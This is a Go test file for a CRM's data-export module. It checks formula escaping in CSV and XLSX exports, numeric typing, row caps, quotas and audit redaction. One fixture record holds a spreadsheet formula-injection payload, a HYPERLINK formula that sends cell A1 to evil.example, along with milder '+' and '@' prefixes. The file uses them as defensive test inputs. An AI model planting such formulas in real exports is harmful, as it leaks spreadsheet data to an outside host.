package exportgov_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/havencrm/haven/access"
	"github.com/havencrm/haven/apperr"
	"github.com/havencrm/haven/audit"
	"github.com/havencrm/haven/exportgov"
	"github.com/havencrm/haven/internal/testdb"
	"github.com/havencrm/haven/records"
	"github.com/havencrm/haven/store"
	"github.com/havencrm/haven/tenant"
)

// memList stands in for the records service's list path (the API and web
// tests run the real one): pages of q.Limit records, the cursor an index.
// It counts its calls and may grow between them, like a list others keep
// adding to.
type memList struct {
	mu    sync.Mutex
	obj   records.Object
	recs  []records.Record
	calls int
	grow  func(calls int) []records.Record
}

func (m *memList) Object(_ context.Context, _ tenant.Actor, name string) (records.Object, error) {
	if name != m.obj.Name {
		return records.Object{}, apperr.NotFound("object")
	}
	return m.obj, nil
}

func (m *memList) List(_ context.Context, _ tenant.Actor, _ string, q records.ListQuery) ([]records.Record, string, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.calls++
	if m.grow != nil {
		m.recs = append(m.grow(m.calls), m.recs...) // newest first
	}
	start, _ := strconv.Atoi(q.Cursor)
	end := min(start+q.Limit, len(m.recs))
	next := ""
	if end < len(m.recs) {
		next = strconv.Itoa(end)
	}
	return m.recs[start:end], next, nil
}

func testObject() records.Object {
	return records.Object{Name: "contact", Label: "Contacts", LabelZH: "联系人", NameField: "name", Fields: []records.Field{
		{Name: "name", Label: "Name", LabelZH: "姓名", Type: records.TypeText, Position: 1},
		{Name: "mobile", Label: "Mobile", LabelZH: "手机", Type: records.TypePhone, Position: 2, Encrypted: true, Searchable: true,
			Policy: access.SensitivePolicy(access.MaskMobile, true)},
		{Name: "note", Label: "Note", Type: records.TypeText, Position: 3},
		{Name: "score", Label: "Score", Type: records.TypeNumber, Position: 4},
	}}
}

func rec(i int, note string, score float64) records.Record {
	return records.Record{ID: tenant.NewID(), Object: "contact", Name: fmt.Sprintf("客户%d", i), OwnerID: "owner",
		Fields:    map[string]any{"name": fmt.Sprintf("客户%d", i), "mobile": "138****5678", "note": note, "score": score},
		CreatedAt: t0, UpdatedAt: t0}
}

// TestExportListFileContents: formulas are not run by a spreadsheet
// (CSV cells prefixed, XLSX cells stored as text), numbers stay numbers,
// the row count is capped at what was charged even if the list grows,
// and the audit event keeps protected filter values out.
func TestExportListFileContents(t *testing.T) {
	testdb.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		svc := exportgov.New(db, exportgov.Options{Now: func() time.Time { return t0 }})
		tid := newTenant(t, db, "acme", nil)
		admin := user(tid, "admin")
		list := &memList{obj: testObject(), recs: []records.Record{
			rec(1, `=HYPERLINK("http://evil.example/?"&A1,"click")`, -5), rec(2, "+86 138", 1.5), rec(3, "@SUM(1)", 0), rec(4, "普通", 2),
		}}
		req := exportgov.ListRequest{Object: "contact", Format: exportgov.FormatCSV, Filters: map[string]string{"mobile": "13812345678", "note": "x"}, Q: "张"}
		e, err := svc.StartListExport(ctx, admin, list, req)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := e.Write(ctx, &buf); err != nil {
			t.Fatal(err)
		}
		rd := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF"))))
		rd.FieldsPerRecord = -1
		lines, err := rd.ReadAll()
		if err != nil || len(lines) != 6 {
			t.Fatalf("csv %v %v", lines, err)
		}
		if got := strings.Join(lines[1], ","); got != "id,name,mobile,note,score,owner_id,created_at,updated_at" {
			t.Errorf("header %s", got)
		}
		for i, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+86 138", "'@SUM(1)", "普通"} {
			if lines[i+2][3] != want {
				t.Errorf("note %d = %q, want %q", i, lines[i+2][3], want)
			}
		}
		if lines[2][4] != "-5" || lines[3][4] != "1.5" {
			t.Errorf("numbers %q %q", lines[2][4], lines[3][4])
		}
		if lines[2][6] != "2026-03-10T10:00:00+08:00" {
			t.Errorf("time %q", lines[2][6])
		}
		events, err := db.QueryAudit(ctx, tid, audit.Filter{Action: exportgov.ActionListExported, Limit: 5})
		if err != nil || len(events) != 1 {
			t.Fatalf("audit %v %v", events, err)
		}
		sc := fmt.Sprint(events[0].Changes["scope"].After)
		if strings.Contains(sc, "13812345678") || strings.Contains(sc, "张") || !strings.Contains(sc, "withheld") || !strings.Contains(sc, "note:x") {
			t.Errorf("audited scope %s", sc)
		}
		if fmt.Sprint(events[0].Changes["rows"].After) != "4" {
			t.Errorf("audited rows %v", events[0].Changes["rows"])
		}

		// XLSX: formulas stay text.
		e, err = svc.StartListExport(ctx, admin, list, exportgov.ListRequest{Object: "contact", Format: exportgov.FormatXLSX})
		if err != nil {
			t.Fatal(err)
		}
		buf.Reset()
		if err := e.Write(ctx, &buf); err != nil {
			t.Fatal(err)
		}
		x, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		if hf, err := x.GetHeaderFooter("Export"); err != nil || hf == nil || !strings.Contains(hf.OddHeader, "Haven export "+e.ID) {
			t.Errorf("printed header %+v %v", hf, err)
		}
		if props, _ := x.GetDocProps(); props.Identifier != e.ID || props.Creator != admin.Name {
			t.Errorf("doc props %+v", props)
		}
		if f, _ := x.GetCellFormula("Export", "D2"); f != "" {
			t.Errorf("a value became a formula: %q", f)
		}
		if v, _ := x.GetCellValue("Export", "D2"); !strings.HasPrefix(v, "=HYPERLINK") {
			t.Errorf("D2 = %q", v)
		}
		if typ, _ := x.GetCellType("Export", "E2"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
			t.Errorf("a number was written as text")
		}

		// A list that grows between the count and the write: the file
		// holds no more rows than were charged.
		grown := &memList{obj: testObject(), recs: list.recs, grow: func(calls int) []records.Record {
			if calls == 2 {
				return []records.Record{rec(9, "late", 9)}
			}
			return nil
		}}
		e, err = svc.StartListExport(ctx, admin, grown, exportgov.ListRequest{Object: "contact", Format: exportgov.FormatCSV})
		if err != nil {
			t.Fatal(err)
		}
		buf.Reset()
		if err := e.Write(ctx, &buf); err != nil {
			t.Fatal(err)
		}
		if n := bytes.Count(buf.Bytes(), []byte("\n")); e.Rows != 4 || n != 6 {
			t.Errorf("charged %d rows, wrote %d lines", e.Rows, n)
		}

		// Past the quota the count stops early and the refusal says so.
		if _, err := svc.Put(ctx, admin, exportgov.Settings{ListRoles: []string{"admin"}, FullRoles: []string{"admin"}, DailyRowQuota: 250, NotifyThreshold: 1000}); err != nil {
			t.Fatal(err)
		}
		big := &memList{obj: testObject()}
		for i := range 1000 {
			big.recs = append(big.recs, rec(i, "n", 1))
		}
		_, err = svc.StartListExport(ctx, user(tid, "admin"), big, exportgov.ListRequest{Object: "contact", Format: exportgov.FormatCSV})
		if !apperr.Is(err, apperr.KindRateLimited) || !strings.Contains(err.Error(), "more than 250 rows") {
			t.Fatalf("big export: %v", err)
		}
		if big.calls != 2 {
			t.Errorf("counting read %d pages of a list far past the quota", big.calls)
		}
		if _, err := svc.StartListExport(ctx, admin, big, exportgov.ListRequest{Object: "contact", Format: "pdf"}); !apperr.Is(err, apperr.KindInvalid) {
			t.Errorf("format pdf: %v", err)
		}
	})
}
